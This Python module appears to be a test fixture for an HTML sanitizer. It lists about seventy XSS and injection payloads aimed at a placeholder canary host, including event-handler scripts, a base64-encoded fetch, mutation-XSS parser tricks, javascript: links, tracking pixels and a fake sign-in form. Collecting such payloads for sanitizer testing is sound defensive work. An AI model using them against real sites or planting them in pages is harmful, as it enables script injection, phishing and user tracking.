"""HTML that strangers may send: each wants to run a script, to load something from CANARY, to leave
its frame, or to look like the page around it."""

from __future__ import annotations

CANARY = "https://canary.example"
_RUN = f"fetch('{CANARY}/run');top.fired=1;alert(1)"
_B64 = "ZmV0Y2goJ2h0dHBzOi8vY2FuYXJ5LmV4YW1wbGUvcnVuJyk="  # fetch('https://canary.example/run')

ATTACKS = (
    # scripts, plainly and by events
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={CANARY}/a.js></SCRIPT>",
    f"<script/x>{_RUN}</script >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<img src=x onerror="{_RUN}">',
    f'<img src=x onerror=eval(atob("{_B64}"))>',
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f'<img/src=x/onerror="{_RUN}"//>',
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f'<body onload="{_RUN}" background={CANARY}/bg>',
    f'<svg onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:text/javascript;base64,{_B64} /></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    f'<svg><use href="{CANARY}/u.svg#x"/><image href="{CANARY}/i"/></svg>',
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{_RUN}</script>"></iframe></foreignObject></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<marquee onstart="{_RUN}">x</marquee>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=x onerror="{_RUN}"></audio>',
    f'<p style="animation:x 1s" onanimationstart="{_RUN}">x</p>',
    f'<div onpointerenter="{_RUN}" style="position:fixed;inset:0">x</div>',
    f'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{_RUN}</object>',
    # parsers that disagree: what is text to one is a tag to another
    f'<noscript><p title="</noscript><img src=x onerror={_RUN!r}>"></noscript>',
    f'<style><p title="</style><img src=x onerror=alert(1)>"></style><!--{CANARY}-->',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    f"onerror={_RUN}&gt;'>",
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN!r}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror="{_RUN}"></style>',
    f'<select><template><style><!--</style><a rel="--></style></template></select>'
    f'<img src=x onerror={_RUN!r}>">x</a>',
    f"<table><td><svg><desc><noembed><img title='</noembed><img src=x onerror={_RUN}>'>",
    f'<textarea></textarea ><img src=x onerror="{_RUN}"></textarea>',
    f"<title>&lt;/title&gt;&lt;img src=x onerror={_RUN!r}&gt;</title>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f'<!--><img src=x onerror="{_RUN}">-->',
    f'<!--!><img src=x onerror="{_RUN}">--!>',
    f'<![CDATA[><img src=x onerror="{_RUN}">]]>',
    f'<?xml ?><img src=x onerror="{_RUN}"?>',
    f'<img alt="--!><svg onload={_RUN}>" src=x>',
    f'<a title="&quot;&gt;&lt;img src=x onerror={_RUN!r}&gt;" href=x>x</a>',
    "<b>" * 600 + f'<svg><style><img src=x onerror="{_RUN}">',
    f"<plaintext><img src=x onerror='{_RUN}'>",
    # links
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href=" &#1;jav&#x09;ascript:{_RUN}">x</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">x</a>',
    f'<a href="vbscript:x" ping="{CANARY}/ping" target="_top">x</a>',
    f'<map name=m><area href="javascript:{_RUN}" coords="0,0,99,99"></map><img usemap=#m src=x>',
    # what would be loaded, sent or opened
    f'<base href="{CANARY}/"><img src="a.png"><a href="b">x</a>',
    f'<meta http-equiv="refresh" content="0;url={CANARY}/meta">',
    f'<link rel="stylesheet" href="{CANARY}/l.css"><link rel="dns-prefetch" href="{CANARY}">',
    f"<style>@import '{CANARY}/i.css';@font-face{{font-family:x;src:url({CANARY}/f)}}"
    "*{font-family:x}</style>",
    f'<style>a[href^="h"]{{background:url({CANARY}/h)}}</style><a href="https://x.example">x</a>',
    f'<p style="background:url({CANARY}/b);position:fixed;inset:0;z-index:9999">Sign in again</p>',
    f'<img src="{CANARY}/pixel.gif" srcset="{CANARY}/2x 2x" width=1 height=1>',
    f'<picture><source srcset="{CANARY}/p.webp"><img src="{CANARY}/p.png"></picture>',
    f'<video poster="{CANARY}/v" src="{CANARY}/v.mp4" autoplay><track src="{CANARY}/t"></video>',
    f'<table background="{CANARY}/t"><tr><td background="{CANARY}/td">x</table>',
    f'<iframe src="{CANARY}/frame"></iframe><frameset><frame src="{CANARY}/f"></frameset>',
    f'<embed src="{CANARY}/e"><applet code=x archive="{CANARY}/x"></applet><bgsound src={CANARY}>',
    f'<form action="{CANARY}/login" method=post><input name=password type=password><button>Sign in'
    "</button></form>",
    f'<button formaction="{CANARY}/x">x</button><isindex action="{CANARY}">',
    f'<img alt="x\' src={CANARY}/q onerror={_RUN!r}">',
    f'<img alt=&quot; data-remote="{CANARY}/direct" src="cid:x&quot; onerror=&quot;{_RUN}">',
    f'<img src="cid:none" onerror="this.src=\'{CANARY}/fallback\'">',
    f'<img src="{CANARY}/\r\n\t&quot;onload=&quot;{_RUN}">',
)
